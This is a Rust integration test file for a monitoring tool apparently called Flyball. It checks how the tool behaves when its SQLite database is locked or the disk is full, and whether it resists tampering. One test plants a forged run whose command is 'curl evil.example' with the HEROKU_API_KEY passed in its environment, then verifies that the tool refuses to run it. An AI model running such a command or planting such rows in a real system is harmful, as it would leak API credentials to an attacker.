//! A database that takes nothing for a while: held by another process, or on a disk that is full. What is watched goes
//! on being watched, nothing is done that is not recorded first, and what was missed is told.

use crate::support::{Stage, Up, wait_for};
use flyball_heroku_sim::{AppEvent, Event};
use sqlx::{Connection as _, SqliteConnection};
use tokio::process::Command;

pub(crate) const CLEANING: &str = "[[monitor]]\nname = \"page\"\nevery = \"1s\"\nhttp = { url = \"PAGE\" }\nreactions = [\"clean\"]\n\
                        [[reaction]]\nname = \"clean\"\n\
                        create_one_off_dyno = { app = \"shop\", command = \"clean\", time_to_live = \"10m\" }\n";

/// The shop's database gets into trouble: the page is an error from now on, and the reaction is called.
pub(crate) fn trouble(stage: &Stage) {
    let event = Event::app("shop", AppEvent::DatabaseError(500));
    stage.sim.world().lock().unwrap().apply(event).unwrap();
}

pub(crate) fn visits(stage: &Stage) -> u64 {
    stage.sim.world().lock().unwrap().traffic().visits
}

/// While nothing can be recorded: the page is still looked at, and no call changes anything.
pub(crate) async fn it_watches_and_does_nothing(stage: &Stage, up: &Up) {
    up.until("it says that nothing can be recorded", |up| up.printed().contains("nothing can be recorded")).await;
    let then = visits(stage);
    wait_for("the page is still looked at", async || visits(stage) >= then + 3).await;
    assert!(stage.changes().is_empty(), "nothing is done that is not recorded first");
}

/// What was recorded before can still be read.
async fn it_is_still_read(stage: &Stage) {
    assert!(stage.run(&["status"]).await.stdout.contains("page"));
}

/// Once something can be recorded again: that is told, and the page is put right, once.
pub(crate) async fn it_recovers(stage: &Stage, up: &Up) {
    let told = stage.history_until("what is seen is recorded again, after ").await;
    assert!(told.contains("(cannot save "), "it says what was wrong: {told}");
    wait_for("the page is put right", async || !stage.changes().is_empty()).await;
    stage.history_until("\"page\" is passing: answered 200").await;
    assert_eq!(stage.changes().len(), 1, "{}", up.printed());
    up.until("it says that as well", |up| up.printed().contains("what is seen is recorded again")).await;
}

#[tokio::test]
async fn a_database_that_another_process_holds_stops_effects_and_not_checks() {
    let stage = Stage::new().await;
    stage.write(CLEANING);
    let up = stage.up().await;
    wait_for("the page is looked at", async || visits(&stage) >= 2).await;
    let file = stage.path("flyball.db").display().to_string();
    let mut other = SqliteConnection::connect(&format!("sqlite://{file}")).await.unwrap();
    sqlx::query("BEGIN EXCLUSIVE").execute(&mut other).await.unwrap();
    trouble(&stage);
    it_watches_and_does_nothing(&stage, &up).await;
    it_is_still_read(&stage).await;
    sqlx::query("ROLLBACK").execute(&mut other).await.unwrap();
    it_recovers(&stage, &up).await;
}

/// A row that somebody writes into the database beside Flyball: the last run once more, with another command and with a
/// variable of our own process.
const PLANT: &str = "CREATE TEMP TABLE planted AS SELECT * FROM runs LIMIT 1; \
    UPDATE planted SET id = '0192f000-0000-7000-8000-000000000001', state = 'queued', claimed_at = NULL, sent_at = NULL, \
        look_at = NULL, ended_at = NULL, effect_at = NULL, outcome = NULL, outcome_code = NULL, node = NULL, \
        lease_until = NULL, fence = 0, \
        plan = json_set(plan, '$.effect.command', 'curl evil.example', '$.effect.env', json('{\"K\":{\"variable\":\"HEROKU_API_KEY\"}}')); \
    INSERT INTO runs SELECT * FROM planted;";

#[tokio::test]
async fn a_run_that_somebody_wrote_into_the_database_is_refused_before_its_call() {
    let stage = Stage::new().await;
    stage.write(CLEANING);
    let _up = stage.up().await;
    assert_eq!(stage.run(&["react", "clean", "--yes"]).await.code, Some(0));
    assert_eq!(stage.changes().len(), 1);
    let file = stage.path("flyball.db").display().to_string();
    let mut other = SqliteConnection::connect(&format!("sqlite://{file}")).await.unwrap();
    sqlx::raw_sql(PLANT).execute(&mut other).await.unwrap();
    let told = stage.history_until("its plan is none that this reaction makes").await;
    assert!(told.contains("see who may write to Flyball's database"), "{told}");
    assert_eq!(stage.changes().len(), 1, "{:?}", stage.changes());
}

/// Sets how large a process's files may grow, in bytes, or that there is no bound.
async fn bound_files(process: u32, bound: &str) {
    let set = Command::new("prlimit").arg(format!("--pid={process}")).arg(format!("--fsize={bound}:")).status().await;
    assert!(set.unwrap().success());
}

#[tokio::test]
async fn a_disk_without_room_stops_effects_and_not_checks() {
    let stage = Stage::new().await;
    stage.write(CLEANING);
    // A file that may not grow fails as a write to a full disk does, and needs no disk of its own, nor rights. The
    // signal that would end the process is one that the binary inherits as ignored.
    let up = stage.up_with(stage.command_after("trap '' XFSZ", &["up"])).await;
    wait_for("the page is looked at", async || visits(&stage) >= 2).await;
    bound_files(up.id(), "1024").await;
    trouble(&stage);
    it_watches_and_does_nothing(&stage, &up).await;
    it_is_still_read(&stage).await;
    bound_files(up.id(), "unlimited").await;
    it_recovers(&stage, &up).await;
}
